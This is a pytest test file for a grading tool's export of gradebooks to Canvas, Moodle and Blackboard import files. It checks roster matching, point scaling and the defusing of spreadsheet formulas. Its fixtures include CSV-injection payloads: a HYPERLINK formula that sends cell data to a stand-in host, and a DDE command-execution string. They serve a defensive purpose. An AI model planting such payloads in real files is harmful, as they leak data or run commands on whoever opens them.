"""`grader export canvas|moodle|blackboard` (grader/exports/lms/) against rosters shaped like each
site's own export. GitHub Classroom's export is tested in test_classroom.py; a real graded class's
gradebook exported to Canvas in test_site_class.py."""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path

import pytest
from click.testing import CliRunner

from grader.cli import main
from grader.reports.gradebook import gradebook_json
from grader.reports.roster import with_identity
from grader.workbook.catalog import load_catalog
from grader.workbook.results import (
    BatchRecord,
    CheckResult,
    ExerciseResult,
    Status,
    SubmissionResult,
)

MAX_TOTAL = sum(e.points for e in load_catalog())  # 145
HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"x")'


def record(student: str, points: dict[str, float], site: str = "", site_id: str = ""):
    """A batch record with the given points per exercise (0 for the others)."""
    exercises = {}
    for e in load_catalog():
        score = points.get(e.id, 0)
        status = Status.PASSED if score == e.points else Status.FAILED
        exercises[e.id] = ExerciseResult(
            e.id, e.points, [CheckResult("all", status, score, e.points, "m")]
        )
    key = re.sub(r"[^A-Za-z0-9_.-]", "_", student)
    entry = {"names": [student], "site": site, "site_id": site_id}
    ids = [e.id for e in load_catalog()]
    return BatchRecord(student, key, SubmissionResult(exercises), ids, entry=entry)


def write_gradebook(folder: Path, records: list[BatchRecord]) -> Path:
    """grades.json exactly as `grader grade` writes it (gradebook_json, then with_identity)."""
    by_student = {r.student: r for r in records}
    folder.mkdir(parents=True, exist_ok=True)
    book = with_identity(gradebook_json(by_student), by_student)
    (folder / "grades.json").write_text(json.dumps(book, indent=1))
    return folder


FULL = {e.id: e.points for e in load_catalog()}
CLASS = [
    record("smithjohn", FULL, "canvas", "12345"),  # Canvas download name: site id = Canvas ID
    record("jdoe", {"edge_filter": 25, "count_parameters": 12}),  # login / email / Username
    record("Li Wei", {"edge_filter": 25}),  # by name, "Li, Wei"
    record("2026004", {"simple_cnn": 16}),  # an institution's id
    record("akim", {"edge_filter": 10}),  # two roster rows named "Kim, A": ambiguous
    record("ghost", {"edge_filter": 25}),  # on no roster
    record(HOSTILE, {"edge_filter": 25}),  # a hostile folder name, on no roster
]


def run_export(*args: str) -> tuple[int, str]:
    result = CliRunner().invoke(main, ["export", *map(str, args)])
    return result.exit_code, result.output


def rows_of(path: Path) -> list[list[str]]:
    return list(csv.reader(io.StringIO(path.read_text(encoding="utf-8"))))


CANVAS_ROSTER = (
    "Student,ID,SIS User ID,SIS Login ID,Section,CNN workbook (4242),Lab 1 (4243),"
    "Current Points,Final Points,Current Score,Final Score\n"
    ",,,,,Manual Posting,,,,,\n"
    "    Points Possible,,,,,100.00,10.00,(read only),(read only),(read only),(read only)\n"
    '"Smith, John",12345,S001,jsmith,CNN 101,,9.00,9.00,9.00,90.00,90.00\n'
    '"Doe, Jane",23456,S002,jdoe,CNN 101,,,0.00,0.00,,0.00\n'
    '"Li, Wei",50001,S003,wli,CNN 102,,,0.00,0.00,,0.00\n'
    '"Brown, Alice",50002,2026004,abrown,CNN 102,,,0.00,0.00,,0.00\n'
    '"Kim, A",50003,S005,akim1,CNN 102,,,0.00,0.00,,0.00\n'
    '"Kim, A",50004,S006,akim2,CNN 102,,,0.00,0.00,,0.00\n'
    "\"=cmd|' /C calc'!A0\",50005,S007,mallory,CNN 102,,,0.00,0.00,,0.00\n"
    '"Nguyen, Bao",50006,S008,bnguyen,CNN 102,,,0.00,0.00,,0.00\n'
)


@pytest.fixture
def gradebook(tmp_path) -> Path:
    return write_gradebook(tmp_path / "out", CLASS)


def test_canvas_existing_assignment_keeps_identity_and_points_possible(tmp_path, gradebook):
    roster = tmp_path / "canvas.csv"
    roster.write_text(CANVAS_ROSTER, encoding="utf-8-sig")  # Excel's BOM
    out = tmp_path / "canvas_import.csv"
    code, output = run_export("canvas", out, "--gradebook", gradebook, "--roster", roster)
    assert code == 0, output
    rows = rows_of(out)
    assert rows[0] == ["Student", "ID", "SIS User ID", "SIS Login ID", "Section"] + [
        "CNN workbook (4242)"
    ]
    assert rows[1][0].strip() == "Points Possible" and rows[1][1:5] == [""] * 4
    assert rows[1][5] == "100", "the existing assignment's points, from the roster"
    body = {r[1]: r for r in rows[2:]}
    assert len(rows) - 2 == 8 and "Manual Posting" not in out.read_text()
    assert body["12345"][:5] == ["Smith, John", "12345", "S001", "jsmith", "CNN 101"]
    assert body["12345"][5] == "100"  # 145 of 145, on the column's 100 points
    assert body["23456"][5] == str(round(37 * 100 / MAX_TOTAL, 2))  # login jdoe
    assert body["50001"][5] == str(round(25 * 100 / MAX_TOTAL, 2))  # name "Li, Wei"
    assert body["50002"][5] == str(round(16 * 100 / MAX_TOTAL, 2))  # SIS User ID 2026004
    assert body["50003"][5] == body["50004"][5] == "", "an ambiguous match is never guessed"
    assert body["50006"][5] == "", "no submission: an empty cell"
    assert body["50005"][0] == "'=cmd|' /C calc'!A0", "a roster's formula is defused"
    assert all(not cell.startswith(("=", "+", "@")) for r in rows for cell in r)
    report = (tmp_path / "canvas_import.csv.report.txt").read_text()
    for text in (report, output):
        assert "matched 4 of 8 roster rows" in text
        assert "ghost" in text and "HYPERLINK" in text
        assert "akim: name matches roster lines 8, 9" in text
        assert "Nguyen, Bao" in text and "Brown, Alice" not in text.split("no submission")[1]


def test_canvas_new_assignment_and_zero_for_no_submission(tmp_path, gradebook):
    roster = tmp_path / "canvas.csv"
    roster.write_text(CANVAS_ROSTER)
    out = tmp_path / "new.csv"
    code, output = run_export(
        "canvas", out, "--gradebook", gradebook / "grades.json", "--roster", roster,
        "--title", "CNN workbook 2026", "--missing", "zero",
    )  # fmt: skip
    assert code == 0, output
    rows = rows_of(out)
    assert rows[0][-1] == "CNN workbook 2026" and rows[1][-1] == str(MAX_TOTAL)
    body = {r[1]: r[-1] for r in rows[2:]}
    assert body["12345"] == str(MAX_TOTAL) and body["23456"] == "37"
    assert body["50006"] == "0", "no submission: 0 when asked"
    assert body["50003"] == body["50004"] == "", "an ambiguous row is never given a 0"


MOODLE_ROSTER = (
    "First name,Last name,ID number,Institution,Department,Email address,"
    "Assignment: Lab 1 (Real),Last downloaded from this course\n"
    "Fatima,Al-Sayed,2026001,Uni,CS,fatima.alsayed@uni.example,8.00,1764000000\n"
    "Jane,Doe,2026002,Uni,CS,jdoe@uni.example,-,1764000000\n"
    "Alice,Brown,2026004,Uni,CS,abrown@uni.example,-,1764000000\n"
    "Bao,Nguyen,2026008,Uni,CS,+bnguyen@uni.example,-,1764000000\n"
)


def test_moodle_maps_by_email_and_id_number_with_feedback(tmp_path):
    book = write_gradebook(
        tmp_path / "out",
        [
            record("Fatima Al-Sayed", FULL, "moodle", "48213"),  # by name
            record("jdoe", {"edge_filter": 25}),  # by the email's local part
            record("2026004", {"edge_filter": 5}),  # by ID number
            record("ghost", {}),
        ],
    )
    roster = tmp_path / "moodle.csv"
    roster.write_text(MOODLE_ROSTER)
    out = tmp_path / "moodle_import.csv"
    code, output = run_export("moodle", out, "--gradebook", book, "--roster", roster)
    assert code == 0, output
    rows = rows_of(out)
    header = rows[0]
    assert {"ID number", "Email address"} <= set(header)
    assert header[-2:] == ["CNN workbook", "CNN workbook (feedback)"]
    assert "Assignment: Lab 1 (Real)" not in header, "only the identity columns are copied"
    by_email = {r[header.index("Email address")]: r for r in rows[1:]}
    assert by_email["fatima.alsayed@uni.example"][-2] == "100"  # Moodle's grades are out of 100
    assert by_email["jdoe@uni.example"][-2] == str(round(25 * 100 / MAX_TOTAL, 2))
    assert by_email["abrown@uni.example"][-2] == str(round(5 * 100 / MAX_TOTAL, 2))
    assert by_email["'+bnguyen@uni.example"][-2] == "", "no submission; its formula defused"
    assert "edge_filter: 25/25" in by_email["jdoe@uni.example"][-1]
    assert all(float(r[-2]) <= 100 for r in rows[1:] if r[-2])
    assert "ghost" in output and "matched 3 of 4 roster rows" in output


BLACKBOARD_HEADER = [
    "Last Name", "First Name", "Username", "Student ID", "Last Access", "Availability",
    "CNN workbook [Total Pts: 100 Score] |1234567",
    "Weighted Total [Total Pts: up to 0 Percentage] |1234568",
]  # fmt: skip
BLACKBOARD_ROWS = [
    ["Doe", "Jane", "jdoe", "2026002", "2026-11-20 10:00:00", "Yes", "", ""],
    ["Li", "Wei", "wli", "2026003", "2026-11-20 10:00:00", "Yes", "", ""],
    ["Brown", "Alice", "@abrown", "2026004", "2026-11-20 10:00:00", "Yes", "", ""],
]


def blackboard_roster(path: Path, header: list[str]) -> Path:
    """Blackboard's Grade Center download: tab-delimited UTF-16 (its .xls), every cell quoted."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, delimiter="\t", quoting=csv.QUOTE_ALL, lineterminator="\r\n")
    writer.writerows([header] + [r[: len(header)] for r in BLACKBOARD_ROWS])
    path.write_bytes(buffer.getvalue().encode("utf-16"))
    return path


@pytest.mark.parametrize("existing", [True, False])
def test_blackboard_username_and_total_pts_column(tmp_path, existing):
    book = write_gradebook(
        tmp_path / "out",
        [
            record("jdoe", FULL, "blackboard", "2026-11-02-10-31-07"),  # Lab 3_jdoe_attempt_...
            record("Li Wei", {"edge_filter": 25}),
            record(HOSTILE, {}),
        ],
    )
    header = BLACKBOARD_HEADER if existing else BLACKBOARD_HEADER[:6]
    roster = blackboard_roster(tmp_path / "gc.xls", header)
    out = tmp_path / "bb_upload.csv"
    code, output = run_export("blackboard", out, "--gradebook", book, "--roster", roster)
    assert code == 0, output
    text = out.read_bytes().decode("utf-8")
    lines = text.split("\r\n")[:-1]
    assert len(lines) == 1 + len(BLACKBOARD_ROWS)
    assert all(line.startswith('"') and line.endswith('"') for line in lines), "every cell quoted"
    rows = rows_of(out)
    column = rows[0][-1]
    assert rows[0][:4] == ["Last Name", "First Name", "Username", "Student ID"]
    if existing:
        assert column == "CNN workbook [Total Pts: 100 Score] |1234567"
        expected = {"jdoe": "100", "wli": str(round(25 * 100 / MAX_TOTAL, 2))}
    else:
        assert column == f"CNN workbook [Total Pts: {MAX_TOTAL} Score]"
        expected = {"jdoe": str(MAX_TOTAL), "wli": "25"}
    body = {r[2]: r[-1] for r in rows[1:]}
    assert body == {**expected, "'@abrown": ""}
    assert "Weighted Total" not in text and "HYPERLINK" in output


def test_unusable_input_exits_2_and_writes_nothing(tmp_path, gradebook):
    roster = tmp_path / "roster.csv"
    out = tmp_path / "o.csv"
    roster.write_text("Name,Score\nJohn,3\n")
    code, output = run_export("canvas", out, "--gradebook", gradebook, "--roster", roster)
    assert code == 2 and "Student, ID" in output and not out.exists()
    roster.write_text(CANVAS_ROSTER.replace("Lab 1 (4243)", "CNN workbook (4244)"))
    code, output = run_export("canvas", out, "--gradebook", gradebook, "--roster", roster)
    assert code == 2 and "2 columns titled 'CNN workbook'" in output and not out.exists()
    roster.write_text(CANVAS_ROSTER)
    code, output = run_export("canvas", out, "--gradebook", tmp_path, "--roster", roster)
    assert code == 2 and "grades.json" in output
    (tmp_path / "grades.json").write_text('{"students": [{"student": 1}]}')
    code, output = run_export("moodle", out, "--gradebook", tmp_path, "--roster", roster)
    assert code == 2 and "not a grader gradebook" in output and not out.exists()
